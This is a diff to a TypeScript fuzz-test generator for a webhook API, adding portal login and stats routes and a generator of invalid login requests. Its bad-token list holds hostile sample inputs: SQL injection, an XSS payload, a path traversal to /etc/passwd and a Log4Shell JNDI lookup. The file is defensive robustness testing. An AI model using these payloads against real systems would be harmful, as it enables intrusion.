@@ -38,8 +38,9 @@ export type BodyKind =
   | 'createUser'
   | 'createAccount'
   | 'createTenant'
-  | 'createApiKey';
-export type QueryKind = 'listWebhooks' | 'listDeliveries' | 'listAccounts';
+  | 'createApiKey'
+  | 'createPortalSession';
+export type QueryKind = 'listWebhooks' | 'listDeliveries' | 'listAccounts' | 'stats';
 export type IdKind = 'webhook' | 'event' | 'delivery' | 'user' | 'account' | 'apiKey';
 
 /** What a route takes, so the generator knows how to make a request to it invalid. */
@@ -51,6 +52,8 @@ export interface RouteSpec {
    * and expected to answer 200 with this kind of content, not counted as a bad request.
    */
   probe?: 'json' | 'html';
+  /** A page for people (the portal's login link): every bad request gets a 4xx HTML page, never JSON and never a 500. */
+  page?: true;
   body?: BodyKind;
   query?: QueryKind;
 }
@@ -98,6 +101,15 @@ export const ROUTES: Record<string, RouteSpec> = {
   'GET /openapi.json': { auth: 'public', probe: 'json' },
   'GET /docs': { auth: 'public', probe: 'html' },
   'GET /docs/:asset': { auth: 'public' },
+  'POST /v1/portal/sessions': { auth: 'tenant', body: 'createPortalSession' },
+  'GET /v1/portal/session': { auth: 'tenant' },
+  'DELETE /v1/portal/session': { auth: 'tenant' },
+  'GET /v1/stats/webhooks': { auth: 'tenant', query: 'stats' },
+  'GET /v1/stats/deliveries': { auth: 'tenant', query: 'stats' },
+  'GET /v1/deliveries/:id/request': { auth: 'tenant' },
+  'GET /portal': { auth: 'public', probe: 'html' },
+  'GET /portal/login': { auth: 'public', page: true },
+  'GET /portal/assets/:asset': { auth: 'public' },
 };
 
 const ID_KIND_BY_COLLECTION: Record<string, IdKind> = {
@@ -147,7 +159,8 @@ type FieldType =
   | 'uuid'
   | 'provider'
   | 'demo'
-  | 'clientId';
+  | 'clientId'
+  | 'boolean';
 
 interface Field {
   type: FieldType;
@@ -166,6 +179,7 @@ const FIELDS: Record<BodyKind, Record<string, Field>> = {
   createAccount: { user_id: req('uuid'), provider: req('provider'), demo: opt('demo') },
   createTenant: { name: req('name'), client_id: opt('clientId') },
   createApiKey: { name: opt('name') },
+  createPortalSession: { read_only: opt('boolean') },
 };
 
 // ---------------------------------------------------------------- values
@@ -199,6 +213,8 @@ function validValue(rng: Rng, type: FieldType, ctx: FuzzContext): unknown {
       return { outcomes: rng.chance(0.5) ? ['success'] : ['TemporaryFailureError', 'success'] };
     case 'clientId':
       return `fuzz-${rng.hex(8)}`;
+    case 'boolean':
+      return rng.chance(0.5);
   }
 }
 
@@ -211,6 +227,7 @@ const SELECTOR_BAD = EVENT_TYPE_BAD.filter((s) => s !== '*');
 const WRONG_FOR_STRING = [null, 0, -1, 3.14, 1e308, true, false, [], ['x'], {}, { $ne: null }];
 const WRONG_FOR_ARRAY = [null, 0, 1, true, false, 'order.created', '', {}, { 0: 'order.created' }];
 const WRONG_FOR_RECORD = [null, 0, 1, true, false, 'x', '', [], ['a'], [['X-A', 'v']]];
+const WRONG_FOR_BOOLEAN = [null, 0, 1, 'true', 'false', 'yes', '', [], [true], {}];
 
 function wrongType(rng: Rng, type: FieldType): unknown {
   switch (type) {
@@ -220,6 +237,8 @@ function wrongType(rng: Rng, type: FieldType): unknown {
     case 'data':
     case 'demo':
       return rng.pick(WRONG_FOR_RECORD);
+    case 'boolean':
+      return rng.pick(WRONG_FOR_BOOLEAN);
     default:
       return rng.pick(WRONG_FOR_STRING);
   }
@@ -293,6 +312,8 @@ function invalidValue(rng: Rng, type: FieldType): { value: unknown; why: string 
       ])();
     case 'clientId':
       return { value: rng.pick(CLIENT_ID_BAD), why: 'bad client_id' };
+    case 'boolean':
+      return { value: rng.pick(WRONG_FOR_BOOLEAN), why: 'not a boolean' };
   }
 }
 
@@ -404,6 +425,7 @@ const VALID_QUERY: Record<QueryKind, (rng: Rng) => Record<string, string>> = {
     status: rng.pick(['pending', 'succeeded', 'failed', 'cancelled']),
   }),
   listAccounts: (rng) => ({ limit: String(rng.int(1, 200)), user_id: rng.uuid() }),
+  stats: (rng) => ({ range: rng.pick(['hour', 'day']), webhook_id: rng.uuid() }),
 };
 
 const enc = encodeURIComponent;
@@ -651,6 +673,7 @@ export function badRequest(ctx: FuzzContext, route: string, spec: RouteSpec): Fu
   const param = paramOf(pattern);
   const hasId = param === 'id';
   if (spec.probe) throw new Error(`${route} takes no input: use probeRequest`);
+  if (spec.page) return badLoginRequest(ctx, route);
   if (spec.auth === 'public') {
     // A public route with a path parameter (a docs asset): a name that is none of its files.
     if (!param) throw new Error(`generator bug: nothing to make invalid in ${route}`);
@@ -732,6 +755,50 @@ export function badRequest(ctx: FuzzContext, route: string, spec: RouteSpec): Fu
 
   if (why.length === 0) throw new Error(`generator bug: nothing invalid in a request to ${route}`);
   return { route, kind: 'bad', method, url: query ? `${path}?${query}` : path, headers, body, why };
+}
+
+/** Tokens that open no portal session: malformed, or well-formed and unknown. */
+const LOGIN_TOKENS_BAD = [
+  '',
+  'x',
+  'A'.repeat(42),
+  'A'.repeat(43),
+  'A'.repeat(44),
+  'A'.repeat(5000),
+  '%00',
+  "'; DROP TABLE portal_sessions; --",
+  '<img src=x onerror=alert(1)>',
+  '../../etc/passwd',
+  '${jndi:ldap://x.example/a}',
+  '__proto__',
+];
+
+/** The portal's login link with a token that opens nothing, and junk around it. */
+function badLoginRequest(ctx: FuzzContext, route: string): FuzzRequest {
+  const { rng } = ctx;
+  const [method, path] = route.split(' ') as [Method, string];
+  const token = () =>
+    rng.weighted<() => string>([
+      [() => rng.pick(LOGIN_TOKENS_BAD), 3],
+      [() => rng.pick([...INJECTIONS, ...NOISE]).replace(/[\ud800-\udfff]/g, '?'), 2],
+      [() => `${rng.hex(20)}${rng.hex(20)}abc`, 2],
+      [() => rng.uuid(), 1],
+    ])();
+  const pairs: Array<[string, string, boolean?]> = rng.pick<Array<[string, string, boolean?]>>([
+    [],
+    [['token', token()]],
+    [['token', token()]],
+    [
+      ['token', token()],
+      ['token', token()],
+    ],
+    [['token', rng.pick(['%', '%zz', '%E0%A4%A', '%00']), true]],
+  ]);
+  const junk = rng.chance(0.3) ? junkQuery(rng) : '';
+  const query = [queryString(pairs), junk].filter(Boolean).join('&');
+  const headers: Record<string, string> = rng.chance(0.4) ? { ...rng.pick(JUNK_HEADERS) } : {};
+  if (rng.chance(0.3)) headers.Cookie = `hookline_portal=${rng.pick([rng.hex(20) + rng.hex(20) + 'abc', ...LOGIN_TOKENS_BAD])}`;
+  return { route, kind: 'bad', method, url: query ? `${path}?${query}` : path, headers, why: [pairs.length ? 'a token that opens nothing' : 'no token'] };
 }
 
 /** A request with a method the path does not take. */
